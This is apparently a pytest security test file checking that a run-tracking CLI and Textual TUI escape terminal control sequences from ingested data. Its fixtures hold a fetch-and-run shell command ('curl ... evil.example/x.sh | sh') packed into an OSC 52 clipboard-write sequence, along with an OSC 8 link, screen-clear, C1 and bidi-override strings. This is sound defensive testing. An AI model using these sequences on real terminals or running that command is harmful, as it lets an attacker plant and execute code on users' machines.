"""Item 2 of issue 36: text from outside never reaches a terminal raw, on any face.

The same hostile strings go to every surface: an OSC 52 sequence carrying a shell
command for the terminal's clipboard, an OSC 8 link, ``ESC [2J`` (clear the screen), the
one-byte C1 CSI ``U+009B``, the bidi override ``U+202E`` and Rich markup (``[link=...]``,
``[/]``).  They sit in an ingested manifest (argv, name, config, env, tags, repo URL,
log tail) and in a run recorded by the real launcher whose program prints them (its
stored log) and takes one as an argument; ``tests/security/test_escapes.py`` covers the
CLI's ``show``, ``compare``, ``gaps`` and ``runs`` and the reports.

- the CLI: ``ingest``'s error for a config key holding an escape (T2), ``runs --csv``
  (T3), the central error path (``fail``) and click's own usage errors;
- the TUI through the Textual pilot: every screen a user reaches with that data (the
  runs browser, every tab of both runs, every tab of their comparison, the dashboard,
  a real local replay of the recorded run: its stage board and live log), each read as
  the very bytes the app would write to the terminal (the compositor's full update):
  only the app's own colour and cursor sequences, no raw ESC, C1 or bidi character,
  no link, and the hostile text shown as visible escapes, its markup as brackets;
- the real ``replay-tui`` under tmux with ``set-clipboard on`` (T1): opening the run and
  its log leaves no paste buffer holding the planted command (a canary proves the
  same server does take OSC 52 from a pane), and the pane shows the visible escape.
"""

from __future__ import annotations

import base64
import io
import json
import re
import shlex
import shutil
import subprocess
import sys
import time
import uuid
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest

from tests.conftest import RunCli
from tests.helpers.repos import commit_repo
from tests.support.factories import realistic_manifest
from tests.support.training import cli_env, replay_tui

SHELL_COMMAND = "curl -s https://evil.example/x.sh | sh"
PAYLOAD = base64.b64encode(SHELL_COMMAND.encode()).decode()
OSC52 = f"\x1b]52;c;{PAYLOAD}\x1b\\"
OSC8 = "\x1b]8;;https://evil.example/\x1b\\click here\x1b]8;;\x1b\\"
CLEAR = "\x1b[2J"
C1 = "\x9b31m"
BIDI = "\u202e"
MARKUP = "[link=https://evil.example/]m[/link] [bold red]x[/] [/]"
HOSTILE = f"{OSC52} {OSC8} {CLEAR} {C1} {BIDI} {MARKUP}"
"""Every attack in one string, for fields that take any character."""
LABEL = f"evil {C1}{BIDI} {MARKUP}"
"""The attacks a label takes (labels refuse C0 characters, ESC among them)."""

SHOWN_OSC52 = "\\x1b]52;c;"
SHOWN_C1 = "\\x9b31m"
SHOWN_BIDI = "\\u202e"
SHOWN_MARKUP = "[link=https://evil.example/]m[/link]"

_OWN_SEQUENCES = re.compile(r"\x1b\[[0-9;:]*m|\x1b\[[0-9]+;[0-9]+H")
"""What Textual itself writes for a frame: colours (SGR) and cursor moves."""
_RAW = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]")
"""A control character (newline aside), C1 or bidi control left after those."""


def raw_in(out: str, where: str) -> str | None:
    """What of ``out`` (text for a terminal) is raw from outside, said; None: nothing."""
    rest = _OWN_SEQUENCES.sub("", out)
    found = _RAW.search(rest)
    if found is None:
        return None
    around = rest[max(0, found.start() - 80) : found.end() + 80]
    return f"{where}: raw {found.group()!r} reaches the terminal: {around!r}"


def assert_clean(out: str, where: str) -> None:
    problem = raw_in(out, where)
    assert problem is None, problem


# -- the data ---------------------------------------------------------------------------


def hostile_manifest(i: int = 7) -> dict[str, Any]:
    d = realistic_manifest(i)
    d["name"] = LABEL
    d["argv"].append(OSC52)
    d["argv"].append(HOSTILE)
    d["config"]["note"] = HOSTILE
    d["env"]["OMP_NUM_THREADS"] = HOSTILE
    d["tags"]["team"] = LABEL
    d["code"]["repo_url"] = "https://git.example/" + HOSTILE
    d["outputs"]["log_tail"] = f"step 1 loss 0.5\n{OSC52}\n{OSC8}\n{CLEAR}\n{C1} {BIDI} {MARKUP}"
    # an output not hashed: its path is in the Outputs tab and in a gap's words
    art = d["outputs"]["artifacts"][0]
    art.update(path=f"out/evil{C1}{BIDI}[/].bin", sha256=None, tensor_sha256=None)
    d.pop("config_hash", None)
    return d


EVIL_PROGRAM = """\
import os, sys
print("step 0 loss 1.0", flush=True)
print(sys.argv[1], flush=True)
print({rest!r}, flush=True)
os.makedirs("out", exist_ok=True)
with open("out/model.txt", "w") as f:
    f.write("1\\n")
""".format(rest=f"{OSC8} {CLEAR} {C1} {BIDI} {MARKUP}")
"""Prints the attacks (the OSC 52 one from its argument): its stored log holds them."""


@dataclass(frozen=True)
class Hostile:
    store: Path
    ingested: str
    """The ingested manifest's run (every field that takes them holds the attacks)."""
    recorded: str
    """A run recorded by the real launcher: argv and stored log hold the attacks."""
    plain: str
    """An ordinary ingested run, to compare with."""


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Hostile:
    root = tmp_path_factory.mktemp("hostile")
    store = root / "store.db"
    repo = commit_repo(root / "repo", {"evil.py": EVIL_PROGRAM}, "evil", ignore="out/\n")
    argv = ["record", "--json", "--quiet", "--name", LABEL, "--artifact", "out/*"]
    done = replay_tui(store, *argv, "--", "python", "evil.py", OSC52, cwd=repo, env=cli_env())
    assert done.returncode == 0, done.stderr[-2000:]
    recorded = str(json.loads(done.stdout)["run_id"])
    evil, plain = hostile_manifest(7), realistic_manifest(8)
    for d in (evil, plain):
        (root / f"{d['run_id']}.json").write_text(json.dumps(d))
    done = replay_tui(store, "ingest", *(root / f"{d['run_id']}.json" for d in (evil, plain)))
    assert done.returncode == 0, done.stderr[-2000:]
    return Hostile(store, str(evil["run_id"]), recorded, str(plain["run_id"]))


# -- the CLI ----------------------------------------------------------------------------


def test_ingest_error_quoting_a_config_key_is_escaped(cli: RunCli, tmp_path: Path) -> None:
    """T2: the key is refused, and the refusal names it with its escapes visible."""
    d = realistic_manifest(1)
    d["config"][f"lr{OSC52}{CLEAR}"] = 1
    d.pop("config_hash", None)
    (tmp_path / "m.json").write_text(json.dumps(d))
    done = cli("ingest", tmp_path / "m.json")
    assert done.returncode == 2
    assert_clean(done.stdout + done.stderr, "ingest")
    assert SHOWN_OSC52 in done.stderr and "\\x1b[2J" in done.stderr
    assert "nothing was stored" in done.stderr


def test_runs_csv_escapes_c1_and_bidi(cli: RunCli, tmp_path: Path) -> None:
    """T3: a name holding U+009B and U+202E is one visible cell of the CSV."""
    d = realistic_manifest(2)
    d["name"] = LABEL
    (tmp_path / "m.json").write_text(json.dumps(d))
    assert cli("ingest", tmp_path / "m.json").returncode == 0
    done = cli("runs", "--csv")
    assert done.returncode == 0, done.stderr
    assert_clean(done.stdout, "runs --csv")
    assert SHOWN_C1 in done.stdout and SHOWN_BIDI in done.stdout
    rows = list(__import__("csv").reader(io.StringIO(done.stdout)))
    assert len(rows) == 2 and SHOWN_MARKUP in rows[1][1]
    as_json = cli("runs", "--json")  # JSON escapes them itself
    assert_clean(as_json.stdout, "runs --json")
    assert json.loads(as_json.stdout)[0]["name"] == LABEL


def test_errors_and_usage_errors_are_escaped(cli: RunCli, tmp_path: Path) -> None:
    """The real CLI's errors that quote an argument (a run that is not there, a bad
    choice, an unknown option, a bad number) show it escaped."""
    d = realistic_manifest(3)
    (tmp_path / "m.json").write_text(json.dumps(d))
    assert cli("ingest", tmp_path / "m.json").returncode == 0
    for args in (
        ("show", f"run{CLEAR}{OSC52}"),
        ("gaps", f"{C1}{BIDI}"),
        ("runs", "--kind", f"x{OSC52}"),
        ("runs", f"--{CLEAR}"),
        ("runs", "--limit", f"1{OSC8}"),
    ):
        done = cli(*args)
        assert done.returncode == 2, (args, done.stderr)
        assert_clean(done.stdout + done.stderr, " ".join(args))
        assert "\\x" in done.stderr or "\\u" in done.stderr, (args, done.stderr)


def test_the_central_error_paths_escape_whatever_they_are_given() -> None:
    """Whatever a domain error or a click error quotes, the one path that prints it
    (``cli.common.fail`` under ``handled``, the root group for click's own errors)
    escapes it, quoted raw or not: a command of the real group, run by click."""
    import click
    from click.testing import CliRunner

    from replay_tui.cli.common import handled
    from replay_tui.cli.root import LazyGroup
    from replay_tui.errors import BadInput

    group = LazyGroup()

    @group.command("domain")
    @handled
    def domain() -> None:
        raise BadInput(f"bad {HOSTILE}", f"hint {HOSTILE}")

    @group.command("usage")
    @click.argument("value")
    def usage(value: str) -> None:
        raise click.BadParameter(f"bad {HOSTILE}")

    for name in ("domain", "usage"):
        done = CliRunner().invoke(group, [name, "x"] if name == "usage" else [name])
        assert done.exit_code == 2, (name, done.output)
        assert_clean(done.output, name)
        assert SHOWN_OSC52 in done.output and SHOWN_MARKUP in done.output, done.output


def test_an_error_nothing_handled_prints_escaped(capsys: pytest.CaptureFixture[str]) -> None:
    """What the program prints for a crash (its ``sys.excepthook``) quotes the error's
    message: escaped, the traceback's lines kept."""
    from replay_tui.program import print_escaped_traceback

    try:
        raise RuntimeError(f"crash {HOSTILE}")
    except RuntimeError as e:
        print_escaped_traceback(type(e), e, e.__traceback__)
    err = capsys.readouterr().err
    assert_clean(err, "traceback")
    assert err.startswith("Traceback") and f"RuntimeError: crash {SHOWN_OSC52}" in err


# -- the TUI, through the pilot -----------------------------------------------------------


def _frame(app: Any) -> str:
    """What the app writes to the terminal for its whole screen now: the compositor's
    full update rendered as Textual's driver renders it (as ``export_screenshot`` takes
    it), with the screens under a modal."""
    from rich.console import Console

    console = Console(
        file=io.StringIO(),
        width=app.size.width,
        height=app.size.height,
        force_terminal=True,
        color_system="truecolor",
        legacy_windows=False,
    )
    update = app.screen._compositor.render_update(full=True, screen_stack=app._background_screens)
    return str(update.render_segments(console))


class Frames:
    """Every frame looked at: each checked clean, their visible text kept."""

    def __init__(self) -> None:
        self.seen: list[str] = []
        self.raw: list[str] = []
        """Each frame's problem (every screen is looked at, whichever fails)."""

    def check(self, app: Any, where: str) -> str:
        out = _frame(app)
        problem = raw_in(out, where)
        if problem is not None:
            self.raw.append(problem)
        shown = _OWN_SEQUENCES.sub("", out)
        self.seen.append(shown)
        return shown

    def anywhere(self, text: str) -> bool:
        return any(text in s for s in self.seen)


async def _tabs(pilot: Any, frames: Frames, keys: str, where: str) -> None:
    from tests.support.app import settle

    for key in keys:
        await pilot.press(key)
        await settle(pilot)
        frames.check(pilot.app, f"{where}, tab {key}")


def test_every_tui_screen_shows_the_attacks_as_escapes(
    hostile: Hostile, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("PATH", cli_env()["PATH"])  # the local replay runs this `python`
    from replay_tui.tui.messages import OpenComparison, OpenReplay, OpenRun
    from replay_tui.tui.screens.dashboard import DashboardScreen
    from replay_tui.tui.screens.replay import ReplayScreen
    from replay_tui.tui.screens.run_detail import RunDetailScreen
    from tests.support.app import comparison_shown, local_app, opened, settle, sync, wait_until

    frames = Frames()
    replay_shown: list[str] = []

    async def walk() -> None:
        app = local_app(hostile.store)
        async with app.run_test(size=(200, 70)) as pilot:
            await settle(pilot)
            frames.check(app, "runs browser")

            for run in (hostile.ingested, hostile.recorded):
                detail = await opened(pilot, OpenRun(run), RunDetailScreen)
                await wait_until(pilot, lambda d=detail: d.detail is not None)  # type: ignore[misc]
                await settle(pilot)
                frames.check(app, f"run {run}")
                await _tabs(pilot, frames, "1234567", f"run {run}")
                await pilot.press("escape")
                await settle(pilot)

            app.post_message(OpenComparison(a_run=hostile.plain, b_run=hostile.ingested))
            await comparison_shown(pilot)
            await settle(pilot)
            frames.check(app, "comparison")
            await _tabs(pilot, frames, "12345", "comparison")
            await pilot.press("escape")
            await settle(pilot)

            await opened(pilot, app.action_dashboard, DashboardScreen)
            frames.check(app, "dashboard")
            await pilot.press("escape")
            await settle(pilot)

            # a real replay of the recorded run (local backend): the stage board and the
            # live log of its output, then the comparison it opens
            screen = await opened(pilot, OpenReplay(hostile.recorded), ReplayScreen)
            frames.check(app, "replay form")
            await pilot.press("ctrl+s")
            await wait_until(pilot, lambda: screen.summary is not None, timeout=300)
            await comparison_shown(pilot)
            await settle(pilot)
            frames.check(app, "the replay's comparison")
            await pilot.press("escape")
            await wait_until(pilot, lambda: app.screen is screen)
            await settle(pilot)
            replay_shown.append(frames.check(app, "replay screen"))

    sync(walk)()
    assert not frames.raw, "\n".join(frames.raw)
    assert SHOWN_OSC52 in replay_shown[0], "the replay's live log shows the run's output"
    # the attacks are there, visible, on the screens that show them
    assert frames.anywhere(SHOWN_OSC52)
    assert frames.anywhere(SHOWN_C1) and frames.anywhere(SHOWN_BIDI)
    assert frames.anywhere(SHOWN_MARKUP)  # shown as brackets, never read as markup
    assert frames.anywhere("\\x1b]8;;https://evil.example/") and frames.anywhere("\\x1b[2J")


# -- the real TUI in tmux, clipboard on ------------------------------------------------------


class Tmux:
    """A tmux server of its own (``-L``), so its options touch no other test's."""

    def __init__(self) -> None:
        self.socket = f"replay-tui-esc-{uuid.uuid4().hex[:8]}"

    def __call__(self, *args: str) -> subprocess.CompletedProcess[str]:
        return subprocess.run(
            ["tmux", "-L", self.socket, *args], capture_output=True, text=True, check=False
        )

    def buffers(self) -> str:
        """Every paste buffer's whole text."""
        names = self("list-buffers", "-F", "#{buffer_name}").stdout.split()
        return "\n".join(self("show-buffer", "-b", n).stdout for n in names)

    def wait_for(self, target: str, predicate: Callable[[str], bool], timeout: float = 120) -> str:
        deadline = time.monotonic() + timeout
        text = ""
        while time.monotonic() < deadline:
            text = self("capture-pane", "-p", "-t", target).stdout
            if predicate(text):
                return text
            time.sleep(0.1)
        raise AssertionError(f"the pane never showed what was awaited; it shows:\n{text}")


@pytest.fixture
def tmux_server() -> Iterator[Tmux]:
    assert shutil.which("tmux") is not None, "tmux is missing: apt-get install tmux"
    server = Tmux()
    try:
        yield server
    finally:
        server("kill-server")


def _joined(pane: str) -> str:
    """The pane's lines without borders and padding, run together (a value the layout
    folds reads whole)."""
    return "".join(line.strip(" │┃║|") for line in pane.splitlines())


def test_tui_in_tmux_with_clipboard_on_gets_no_planted_command(
    tmux_server: Tmux, tmp_path: Path
) -> None:
    tmux = tmux_server
    store = tmp_path / "store.db"
    d = hostile_manifest(9)
    (tmp_path / "m.json").write_text(json.dumps(d))
    assert replay_tui(store, "ingest", tmp_path / "m.json").returncode == 0
    assert tmux("new-session", "-d", "-s", "canary", "-x", "100", "-y", "40").returncode == 0
    assert tmux("set-option", "-s", "set-clipboard", "on").returncode == 0

    # the canary: this server does put a pane's OSC 52 into a paste buffer
    canary = base64.b64encode(b"canary-clip").decode()
    tmux("send-keys", "-t", "canary", f"printf '\\033]52;c;{canary}\\007'", "Enter")
    deadline = time.monotonic() + 60
    while "canary-clip" not in tmux.buffers() and time.monotonic() < deadline:
        time.sleep(0.1)
    assert "canary-clip" in tmux.buffers(), "tmux took no OSC 52: the check would prove nothing"
    for name in tmux("list-buffers", "-F", "#{buffer_name}").stdout.split():
        tmux("delete-buffer", "-b", name)

    env = cli_env()
    exe = Path(sys.executable).parent / "replay-tui"
    command = shlex.join(
        [
            *("env", "-u", "REPLAY_TUI_STORE", f"PATH={env['PATH']}", "TERM=xterm-256color"),
            *(str(exe), "--store", str(store)),
        ]
    )
    done = tmux("new-session", "-d", "-s", "app", "-x", "100", "-y", "40", command)
    assert done.returncode == 0, done.stderr
    tmux.wait_for("app", lambda s: "1 of 1 runs" in s)
    tmux("send-keys", "-t", "app", "Enter")  # open the run: its manifest (argv) shows
    tmux.wait_for("app", lambda s: "l Log" in s)  # the run's screen (its footer)
    # its manifest painted (the command row shown), or its argv written raw: a buffer
    pane = tmux.wait_for(
        "app", lambda s: ("Manifest" in s and "command" in s) or bool(tmux.buffers())
    )
    held = tmux.buffers()
    assert SHELL_COMMAND not in held and PAYLOAD not in held, f"clipboard written: {held!r}"
    assert SHOWN_OSC52 in _joined(pane), pane

    tmux("send-keys", "-t", "app", "l")  # its log tail: OSC 52, OSC 8 and CSI 2J again
    pane_log = tmux.wait_for("app", lambda s: "l: this tab" in s and "click here" in s)
    tmux("send-keys", "-t", "app", "1")
    tmux.wait_for("app", lambda s: "command" in s)
    tmux("send-keys", "-t", "app", "q")
    deadline = time.monotonic() + 60
    while tmux("has-session", "-t", "app").returncode == 0 and time.monotonic() < deadline:
        time.sleep(0.1)
    held = tmux.buffers()
    assert SHELL_COMMAND not in held and PAYLOAD not in held, f"clipboard written: {held!r}"
    shown = _joined(pane_log)
    assert SHOWN_OSC52 in shown and "\\x1b[2J" in shown and "\\x1b]8;;" in shown, pane_log
